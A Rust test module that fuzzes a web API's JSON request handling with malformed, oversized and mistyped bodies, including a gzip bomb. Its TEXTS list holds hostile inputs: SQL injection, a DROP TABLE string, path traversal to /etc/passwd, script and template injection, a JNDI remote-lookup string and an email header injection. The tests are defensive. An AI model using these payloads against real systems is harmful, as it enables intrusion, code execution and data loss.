//! JSON bodies that are broken, too large, or not what the document says, tried on every operation that takes one.

use std::rc::Rc;

use base64::Engine as _;
use reqwest::Method;
use serde_json::{Value, json};

use crate::support::actors::Caller;
use crate::support::expect::Answer;
use crate::support::operations::{self, Operation, resolved};
use crate::support::server::TestServer;
use crate::support::suite::Suite;

/// Puts this module's tests on the list.
pub fn register(suite: &mut Suite) {
    suite.on_both("hostile::what_is_no_json_is_refused_everywhere", what_is_no_json_is_refused_everywhere);
    suite.on_both("hostile::large_bodies_are_refused_everywhere", large_bodies_are_refused_everywhere);
    suite.on_both("hostile::unknown_fields_are_refused_at_any_depth", unknown_fields_are_refused_at_any_depth);
    suite.on_both("hostile::a_list_is_no_object_at_any_depth", a_list_is_no_object_at_any_depth);
    suite.on_both("hostile::values_of_the_wrong_kind_are_pointed_at", values_of_the_wrong_kind_are_pointed_at);
    suite.on_both("hostile::odd_values_never_fail", odd_values_never_fail);
}

const JSON: &str = "application/json";
/// 300 KiB of spaces, in a few hundred bytes of gzip.
const GZIP_BOMB: &str = "H4sIAAAAAAACA+3B0QkAEAAFwFX0xrCNUvIj/7K7OdTdnezW+1wjNQUAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA+lPsAmanzcQ6wBAA=";

/// An operation that takes JSON, with a body that has the right shape.
struct Taker {
    operation: Operation,
    path: String,
    sample: Value,
}

impl Taker {
    async fn send(&self, caller: &Caller, body: impl Into<Vec<u8>>) -> Answer {
        self.send_as(caller, JSON, body).await
    }

    async fn send_as(&self, caller: &Caller, content_type: &str, body: impl Into<Vec<u8>>) -> Answer {
        let caller = caller.with("idempotency-key", &negozio::platform::ids::fresh_uuid().to_string());
        caller.send_bytes(self.operation.method.clone(), &self.path, content_type, body).await
    }
}

/// All of them but those that read nothing before a signature or a service's own token.
fn takers() -> Vec<Taker> {
    let all = operations::all()
        .into_iter()
        .filter(|operation| operation.parameters("header").len() < 3 && !operation.takes_a_services_token());
    let takers = all.filter_map(|operation| {
        let sample = sample(operation.json_body()?);
        Some(Taker { path: operation.absent_path(), sample, operation })
    });
    let takers: Vec<Taker> = takers.collect();
    assert!(takers.len() > 25, "{}", takers.len());
    takers
}

/// A value of a schema's shape, with every field there is.
fn sample(schema: &'static Value) -> Value {
    let schema = resolved(schema);
    let given = [&schema["example"], &schema["examples"][0], &schema["enum"][0], &schema["oneOf"][0]];
    if let Some(alternative) = schema["oneOf"].as_array().and_then(|list| list.iter().find(|one| one["type"] != "null"))
    {
        return sample(alternative);
    }
    if let Some(properties) = schema["properties"].as_object() {
        return properties.iter().map(|(name, property)| (name.clone(), sample(property))).collect();
    }
    if let Some(value) = given.into_iter().find(|value| !value.is_null()) {
        return value.clone();
    }
    let kinds = schema["type"].as_array();
    let kind = kinds.and_then(|kinds| kinds.iter().find(|kind| *kind != "null")).unwrap_or(&schema["type"]);
    match kind.as_str() {
        Some("array") => json!([sample(&schema["items"])]),
        Some("integer") => schema.get("minimum").cloned().unwrap_or(json!(1)),
        Some("boolean") => json!(true),
        _ => json!("text"),
    }
}

/// Somebody with every credential there is, so that only the body can be wrong.
async fn almighty(server: &TestServer) -> Caller {
    let administrator = server.visitor().logged_in_as("admin@example.com").await;
    administrator.with("x-cart-token", "no cart has this token")
}

async fn what_is_no_json_is_refused_everywhere(server: Rc<TestServer>) {
    let caller = almighty(&server).await;
    let deep = "[".repeat(100_000);
    let closed = format!("{}{}", "[".repeat(1000), "]".repeat(1000));
    for taker in takers() {
        for body in ["{", "{\"a\":}", "nul", "'a'", "{} {}", "{}x", "{\"a\":1,}", "{a:1}", "NaN", "\u{feff}{}", &deep] {
            taker.send(&caller, body).await.refused(400, "malformed_request");
        }
        // Deep, but JSON.
        let answer = taker.send(&caller, closed.as_str()).await;
        assert!([400, 422].contains(&answer.status), "{} answered {}", answer.asked, answer.text());
        answer.problem();
        for bytes in
            [&b"\"\xff\xfe\""[..], b"{\"a\":\"\x00\"}", b"{\"a\":\"\x1f\"}", b"\x1f\x8b\x08\x00", b"\xff\xfe{\x00}\x00"]
        {
            taker.send(&caller, bytes).await.refused(400, "malformed_request");
        }
        for content_type in [
            "text/plain",
            "text/json",
            "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=x",
            "application/jsonx",
            "application/json-patch",
            "json",
        ] {
            taker.send_as(&caller, content_type, "{}").await.refused(415, "unsupported_media_type");
        }
        if taker.operation.says["requestBody"]["required"] == true {
            taker.send(&caller, "").await.refused(400, "malformed_request");
            let keyed = caller.with("idempotency-key", "none");
            let answer = keyed.send(taker.operation.method.clone(), &taker.path, None).await;
            answer.refused(415, "unsupported_media_type");
        }
    }
}

async fn large_bodies_are_refused_everywhere(server: Rc<TestServer>) {
    let caller = almighty(&server).await;
    let large = format!("{{\"padding\":\"{}\"}}", "x".repeat(300 * 1024));
    let bomb = base64::engine::general_purpose::STANDARD.decode(GZIP_BOMB).expect("base64");
    for taker in takers() {
        taker.send(&caller, large.clone()).await.refused(413, "content_too_large");
        let zipped = caller.with("content-encoding", "gzip");
        taker.send(&zipped, bomb.clone()).await.refused(413, "content_too_large");
        taker.send(&zipped, "{}").await.refused(400, "malformed_request");
    }
}

/// The pointers of all objects in a value, its own first.
fn objects(value: &Value, pointer: &str) -> Vec<String> {
    match value {
        Value::Object(members) => {
            let inner = members.iter().flat_map(|(name, value)| objects(value, &format!("{pointer}/{name}")));
            std::iter::once(pointer.to_owned()).chain(inner).collect()
        }
        Value::Array(items) => {
            items.iter().enumerate().flat_map(|(index, item)| objects(item, &format!("{pointer}/{index}"))).collect()
        }
        _ => Vec::new(),
    }
}

fn changed(value: &Value, pointer: &str, change: impl FnOnce(&mut Value)) -> String {
    let mut value = value.clone();
    change(value.pointer_mut(pointer).unwrap_or_else(|| panic!("nothing at {pointer}")));
    value.to_string()
}

async fn unknown_fields_are_refused_at_any_depth(server: Rc<TestServer>) {
    let caller = almighty(&server).await;
    let mut nested = 0;
    for taker in takers() {
        for pointer in objects(&taker.sample, "") {
            for name in ["no_such_field", "constructor", "__proto__", "", "a/b~c", "id"] {
                let body = changed(&taker.sample, &pointer, |object| object[name] = json!(1));
                let escaped = name.replace('~', "~0").replace('/', "~1");
                taker.send(&caller, body).await.refused_field(&format!("{pointer}/{escaped}"), "unknown_field");
            }
            nested += usize::from(!pointer.is_empty());
        }
    }
    assert!(nested > 5, "{nested}");
}

async fn a_list_is_no_object_at_any_depth(server: Rc<TestServer>) {
    let caller = almighty(&server).await;
    for taker in takers() {
        for pointer in objects(&taker.sample, "") {
            let as_list = |object: &mut Value| {
                let values = object.as_object().expect("an object").values().cloned();
                *object = values.collect();
            };
            let bodies = [
                changed(&taker.sample, &pointer, as_list),
                changed(&taker.sample, &pointer, |object| *object = json!([])),
                changed(&taker.sample, &pointer, |object| *object = json!([object])),
            ];
            for body in bodies {
                taker.send(&caller, body).await.refused_field(&pointer, "invalid_value");
            }
        }
    }
}

/// The pointers of all that is neither an object nor a list.
fn leaves(value: &Value, pointer: &str) -> Vec<String> {
    match value {
        Value::Object(members) => {
            members.iter().flat_map(|(name, value)| leaves(value, &format!("{pointer}/{name}"))).collect()
        }
        Value::Array(items) => {
            items.iter().enumerate().flat_map(|(index, item)| leaves(item, &format!("{pointer}/{index}"))).collect()
        }
        _ => vec![pointer.to_owned()],
    }
}

async fn values_of_the_wrong_kind_are_pointed_at(server: Rc<TestServer>) {
    let caller = almighty(&server).await;
    for taker in takers() {
        for pointer in leaves(&taker.sample, "") {
            let is_flag = taker.sample.pointer(&pointer).is_some_and(Value::is_boolean);
            let flag = if is_flag { json!("true") } else { json!(true) };
            for wrong in [flag, json!({}), json!([]), json!([[1]]), json!(1.5), json!({ "$ne": null })] {
                let body = changed(&taker.sample, &pointer, |value| *value = wrong);
                taker.send(&caller, body).await.refused_field(&pointer, "invalid_value");
            }
            let huge = taker
                .sample
                .pointer(&pointer)
                .filter(|value| value.is_number())
                .map(|_| ["1e400", "99999999999999999999", "-99999999999999999999", "0x10", "1e3", "\"1\""]);
            for number in huge.into_iter().flatten() {
                let body = changed(&taker.sample, &pointer, |value| *value = json!("<number>"));
                let answer = taker.send(&caller, body.replace("\"<number>\"", number)).await;
                assert!([400, 422].contains(&answer.status), "{} with {number}: {}", answer.asked, answer.text());
                answer.problem();
            }
        }
    }
}

/// Texts that break what handles them carelessly.
const TEXTS: [&str; 14] = [
    "",
    " ",
    "' OR 1=1 --",
    "\"; DROP TABLE accounts; --",
    "%00",
    "../../../../etc/passwd",
    "<script>alert(1)</script>",
    "{{ 7 * 7 }}",
    "${jndi:ldap://example.com/a}",
    "a\r\nBcc: evil@example.com",
    "\u{202e}\u{200b}\u{feff}",
    "\u{1d518}\u{0301}\u{0301}",
    "\u{7f}\u{85}\u{2028}",
    "١٢٣٤٥٦",
];

async fn odd_values_never_fail(server: Rc<TestServer>) {
    let caller = almighty(&server).await;
    let long = "è".repeat(60_000);
    for taker in takers() {
        // What ends the session that asks would end the test.
        if taker.path == "/v1/account/password" {
            continue;
        }
        for pointer in leaves(&taker.sample, "") {
            let texts =
                TEXTS.iter().copied().chain([long.as_str(), "+12345-01-01T00:00:00Z", "+12345-01-01", "-0001-01-01"]);
            let numbers = [0, -1, i64::from(i32::MAX), i64::MAX, i64::MIN].map(Value::from);
            for odd in texts.map(Value::from).chain(numbers).chain([Value::Null]) {
                let shown: String = odd.to_string().chars().take(40).collect();
                let body = changed(&taker.sample, &pointer, |value| *value = odd);
                let answer = taker.send(&caller, body).await;
                assert!(answer.status < 500, "{} with {shown} at {pointer}: {}", answer.asked, answer.text());
                if answer.status >= 400 {
                    answer.problem();
                }
            }
            let escaped =
                changed(&taker.sample, &pointer, |value| *value = json!("<nul>")).replace("<nul>", "a\\u0000b");
            taker.send(&caller, escaped).await.refused_field("", "nul_character");
            let half = changed(&taker.sample, &pointer, |value| *value = json!("<half>")).replace("<half>", "\\ud800");
            let answer = taker.send(&caller, half).await;
            assert!([400, 422].contains(&answer.status), "{}: {}", answer.asked, answer.text());
            answer.problem();
        }
    }
    // Whatever of it was taken can be read again.
    for operation in operations::all().iter().filter(|operation| operation.method == Method::GET) {
        let answer = caller.get(&operation.absent_path()).await;
        assert!(answer.status < 500, "{} answered {}", answer.asked, answer.text());
    }
}
